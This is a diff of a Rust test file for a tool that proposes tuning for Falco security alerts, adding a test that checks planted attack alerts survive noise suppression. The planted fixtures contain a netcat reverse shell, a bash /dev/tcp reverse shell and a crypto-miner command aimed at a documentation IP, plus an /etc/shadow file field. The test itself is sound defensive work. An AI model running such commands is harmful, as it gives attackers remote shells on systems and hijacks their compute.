@@ -5,7 +5,7 @@ use std::collections::{BTreeMap, BTreeSet};
 
 use analysis::alert::{Alert, Object};
 use analysis::insight::Class;
-use analysis::mitigation::{Choice, File, Mitigation, Plan, propose};
+use analysis::mitigation::{Choice, File, Ground, Mitigation, Plan, propose};
 use analysis::report::Report;
 use proptest::prelude::*;
 use rules::RuleFile;
@@ -28,14 +28,9 @@ impl Loaded {
         Self { report: analyse(name, bytes).report, alerts }
     }
 
-    fn day(noise: u64) -> Self {
-        let lines: Vec<String> = noisy_day::lines(noise).collect();
-        Self::of("day.jsonl", lines.join("\n").as_bytes())
-    }
-
     fn select(&self, ids: &[&str], insist: bool) -> Plan {
         let select = ids.iter().map(|id| (*id).to_owned()).collect();
-        propose(&self.report.insight, &Choice { select, insist, now: None })
+        propose(&self.report.insight, &Choice { select, insist, now: None }, &Ground::default())
     }
 }
 
@@ -255,7 +250,10 @@ fn files_of_every_finding_load_and_their_proofs_hold() {
     for (name, bytes) in captures() {
         let loaded = Loaded::of(&name, &bytes);
         let ids: Vec<&str> = loaded.report.insight.groups.iter().map(|group| group.id.as_str()).collect();
-        let mut plans = vec![propose(&loaded.report.insight, &Choice::default()), loaded.select(&ids, true)];
+        let mut plans = vec![
+            propose(&loaded.report.insight, &Choice::default(), &Ground::default()),
+            loaded.select(&ids, true),
+        ];
         plans.extend(ids.iter().take(1).map(|id| loaded.select(&[id], true)));
         for plan in plans {
             check(&loaded, &plan);
@@ -301,20 +299,104 @@ fn batches(files: &BTreeSet<String>) -> Vec<String> {
     batches.into_iter().map(|(_, text)| text).collect()
 }
 
+/// Attacks beside the one of the day, where the noise is: in its image and namespace, by a program that was
+/// put there, and by the name of a noisy program elsewhere. Rule, executable, image, command line.
+const PLANTED: [[&str; 4]; 3] = [
+    [
+        "Netcat Remote Code Execution in Container",
+        "/bin/nc",
+        "registry.example/team/probe",
+        "nc -e /bin/sh 203.0.113.9 4444",
+    ],
+    [
+        "Drop and execute new binary in container",
+        "/tmp/.x/probe",
+        "registry.example/team/probe",
+        "probe -o stratum+tcp://203.0.113.9:3333",
+    ],
+    [
+        "Platform rule 00",
+        "/dev/shm/probe",
+        "registry.example/team/probe",
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    ],
+];
+
+fn planted() -> impl Iterator<Item = String> {
+    PLANTED.into_iter().map(|[rule, executable, image, command]| {
+        serde_json::json!({
+            "rule": rule, "priority": "Warning", "source": "syscall", "output": format!("{rule} happened"),
+            "time": "2026-03-04T13:00:00.000000000Z", "hostname": "node-3",
+            "output_fields": {
+                "proc.exepath": executable, "proc.name": executable.rsplit('/').next(), "proc.cmdline": command,
+                "container.id": "badc0ffee123", "container.image.repository": image, "k8s.ns.name": "platform",
+                "k8s.pod.name": "probe-6c9d7f4b8-zzzzz", "user.name": "root", "proc.pname": "sh",
+            },
+        })
+        .to_string()
+    })
+}
+
 #[test]
-fn a_noisy_day_is_nearly_silent_and_its_attack_is_not() {
-    let loaded = Loaded::day(3000);
-    let plan = propose(&loaded.report.insight, &Choice::default());
+fn a_noisy_day_is_nearly_silent_and_its_attacks_are_not() {
+    let lines: Vec<String> = noisy_day::lines(3000).chain(planted()).collect();
+    let loaded = Loaded::of("day.jsonl", lines.join("\n").as_bytes());
+    let rules: BTreeSet<&str> = loaded.alerts.iter().map(Alert::rule).collect();
+    assert!(rules.len() >= 30, "{}", rules.len());
+    let plan = propose(&loaded.report.insight, &Choice::default(), &Ground::default());
     check(&loaded, &plan);
     let hidden: BTreeSet<u64> =
         tunings(&plan).flat_map(|(_, file)| simulated(&file.content, &loaded.alerts).0).collect();
+    println!("{} of {} alerts by {} rules are hidden", hidden.len(), loaded.alerts.len(), rules.len());
     assert!(hidden.len() * 100 >= loaded.alerts.len() * 95, "{} of {}", hidden.len(), loaded.alerts.len());
-    let attacks: Vec<&Alert> = (1..)
-        .zip(&loaded.alerts)
-        .filter(|(record, alert)| hidden.contains(record) && ATTACK.contains(&alert.rule()))
-        .map(|(_, alert)| alert)
-        .collect();
-    assert!(attacks.is_empty(), "{attacks:?}");
+    let is_attack = |alert: &Alert| {
+        let executable = alert.field_text("proc.exepath");
+        ATTACK.contains(&alert.rule())
+            || PLANTED.iter().any(|[rule, program, ..]| alert.rule() == *rule && executable == Some(*program))
+    };
+    let attacks: Vec<u64> =
+        (1..).zip(&loaded.alerts).filter(|(_, alert)| is_attack(alert)).map(|(record, _)| record).collect();
+    assert_eq!(attacks.len(), ATTACK.len() + PLANTED.len());
+    let lost: Vec<&u64> = attacks.iter().filter(|record| hidden.contains(record)).collect();
+    assert!(lost.is_empty(), "{lost:?}");
+}
+
+#[test]
+fn the_export_holds_the_candidate_that_was_chosen_with_its_proof() {
+    let line = alert(
+        true,
+        &["/usr/bin/agent", "registry.example/agent", "platform", "/etc/shadow"].map(Into::into),
+        1,
+    );
+    let loaded = Loaded::of("input", line.as_bytes());
+    let ids: Vec<&str> = loaded.report.insight.groups.iter().map(|group| group.id.as_str()).collect();
+    let mut report = loaded.report.clone();
+    report.plan = loaded.select(&ids, true);
+    let [tuning] = report.plan.tunings.as_slice() else { panic!("{:?}", report.plan) };
+    let tuning = tuning.clone();
+    let id = tuning.id.as_str();
+    let [narrow, .., broad] = tuning.candidates.as_slice() else { panic!("{tuning:?}") };
+    let proposed = report.plan.clone();
+    let names = |plan: &Plan| -> Vec<String> { plan.files().iter().map(|file| file.name.clone()).collect() };
+    let slug = id.strip_prefix("falco-tuning-").unwrap();
+    let old = format!("falco-before-0.37/{slug}.yaml");
+    assert!(names(&proposed).contains(&old));
+
+    report.plan.choose(id, Some(&broad.content));
+    let (mitigation, file) = tunings(&report.plan).next().unwrap();
+    assert_eq!((mitigation.proof.as_ref(), &file.content), (Some(&broad.proof), &broad.content));
+    assert!(!names(&report.plan).contains(&old));
+    let values = report.plan.files().into_iter().find(|file| file.name.starts_with("helm/falco-v")).unwrap();
+    assert!(values.content.contains("# Falco tuning by Falco Report. Grade: broad."), "{}", values.content);
+
+    report.plan.choose(id, Some("# mine\n"));
+    assert!(report.plan.mitigations.iter().any(|one| one.id == id && one.proof.is_none()));
+    report.plan.choose(id, None);
+    assert!(names(&report.plan).iter().all(|name| !name.contains(slug)));
+
+    let mut again = proposed.clone();
+    again.choose(id, Some(&narrow.content));
+    assert_eq!(names(&again), names(&proposed));
 }
 
 #[test]
